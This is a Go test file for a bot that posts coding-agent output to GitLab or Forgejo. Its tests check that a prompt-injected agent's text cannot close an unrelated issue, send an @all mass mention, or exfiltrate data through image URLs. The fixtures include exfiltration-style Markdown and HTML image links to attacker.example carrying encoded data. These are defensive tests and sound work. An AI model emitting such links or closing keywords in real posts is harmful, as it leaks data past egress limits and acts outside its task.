package mailbox_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/alfred-bot/alfred/mailbox"
	"github.com/alfred-bot/alfred/runner/phase"
)

// closingRE is GitLab's default issue closing pattern (and Forgejo's closing keywords) followed
// by a reference to issue 7.
var closingRE = regexp.MustCompile(`(?i)\b(close[sd]?|closing|fix(e[sd]|ing)?|resolve[sd]?|resolving|implement(s|ed|ing)?)\b:?\s+(acme/shop)?#7\b`)

// The agent's summary is written into the merge request's description after "Closes #<issue>":
// a prompt-injected agent that writes "Fixes #7" there makes the forge close issue 7, which is
// none of this run's, when the merge request is merged (by a human, or by auto-merge).
func TestAnAgentsTextClosesNoOtherIssue(t *testing.T) {
	t.Parallel()
	b := setupWith(t, guard{limits: &mailbox.PostLimits{}}, "type::task")
	b.exec.results["development"] = &phase.Result{CommitMessage: "Add CSV export",
		Summary: "Added the CSV export.\n\nFixes #7, closes acme/shop#7"}
	mb := b.toCI()
	body := b.mrBody(mb)
	require.Contains(t, body, "ixes #7, ", "the agent's summary is in the description")
	require.False(t, closingRE.MatchString(body),
		"the merge request description closes issue 7 on merge:\n%s", body)
}

// An agent's text Alfred posts mentions everyone: GitLab's @all notifies every member of the
// project (a mass mention the bot, a project member, may send).
func TestAnAgentsTextMentionsNobodyEnMasse(t *testing.T) {
	t.Parallel()
	b := setupWith(t, guard{limits: &mailbox.PostLimits{}}, "type::task")
	b.exec.results["analysis.functional"].Understanding = "You want a CSV export. cc @all"
	b.deliver(assign("alice"))
	b.advance()
	all := strings.Join(b.comments(), "\n---\n")
	require.Contains(t, all, "You want a CSV export.", "the understanding was posted")
	require.NotRegexp(t, `(^|[^`+"`"+`\w])@all\b`, all, "a mass mention reaches the forge unquoted")
	require.Contains(t, all, "cc `@all`")
}

// An image with an outside address in an agent's text Alfred posts is fetched by every browser
// that shows the comment (neither GitLab nor Forgejo proxies images by default), carrying
// whatever the agent put in its URL past the run's egress allowlist: an exfiltration channel.
func TestAnAgentsTextShowsNoImage(t *testing.T) {
	t.Parallel()
	b := setupWith(t, guard{limits: &mailbox.PostLimits{}}, "type::task")
	b.exec.results["analysis.functional"].Understanding = "You want a CSV export.\n\n" +
		"![status](https://attacker.example/p.png?d=c2VjcmV0LWRhdGE) ![ref][x]\n\n[x]: https://attacker.example/r.png\n\n" +
		`<IMG src="https://attacker.example/i.png"> <video src=https://attacker.example/v.mp4></video>`
	b.deliver(assign("alice"))
	b.advance()
	all := strings.Join(b.comments(), "\n---\n")
	require.Contains(t, all, "You want a CSV export.", "the understanding was posted")
	require.NotContains(t, all, "![", "a Markdown image reaches the forge")
	require.Contains(t, all, `!\[status](https://attacker.example/p.png?d=c2VjcmV0LWRhdGE)`, "shown as text")
	require.NotRegexp(t, `(?i)<(img|video)`, all, "an HTML image reaches the forge")
	require.Contains(t, all, `&lt;IMG src=`)
}
